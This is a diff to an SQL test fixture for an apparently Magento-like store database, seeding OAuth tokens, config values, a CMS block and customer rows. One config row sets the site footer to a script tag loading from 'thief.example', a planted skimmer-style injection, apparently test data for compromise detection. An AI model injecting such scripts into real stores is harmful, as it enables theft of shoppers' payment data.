@@ -21,7 +21,7 @@ INSERT INTO mg_integration (integration_id, name, status, consumer_id, updated_a
 INSERT INTO mg_oauth_token (consumer_id, admin_id, type, token, revoked) VALUES (4, NULL, 'access', 'a', 0), (4, NULL, 'verifier', 'b', 0), (5, NULL, 'access', 'c', 0), (NULL, 7, 'access', 'd', 0);
 UPDATE mg_core_config_data SET updated_at = '2026-02-03';
 INSERT INTO mg_core_config_data (config_id, scope, scope_id, path, value, updated_at) VALUES (90, 'stores', 2, 'payment/hosted/active', '1', '2026-02-03'),
-  (91, 'default', 0, 'design/footer/absolute_footer', '<script src="//thief.example"></script>', '2026-02-03');
+  (91, 'default', 0, 'design/footer/absolute_footer', '<script src="//thief.example"></script>', '2026-02-03'), (92, 'default', 0, 'payment/redirect/title', 'At the gateway', '2026-02-03');
 UPDATE mg_cms_block SET content = '<p>é \\ stolen</p>', update_time = '2026-02-03' WHERE block_id = 1;
 INSERT INTO mg_customer_entity (entity_id, website_id, email, updated_at, session_cutoff) VALUES (1, 1, 'a@example.com', '2026-02-03', NULL), (2, 2, 'b@example.com', '2026-02-03', NULL),
   (7000, 1, 'c@example.com', '2026-02-03', '2026-01-01'), (7001, 1, 'd@example.com', '2026-02-03', NULL), (2147483000, 1, 'e@example.com', '2026-02-03', NULL);
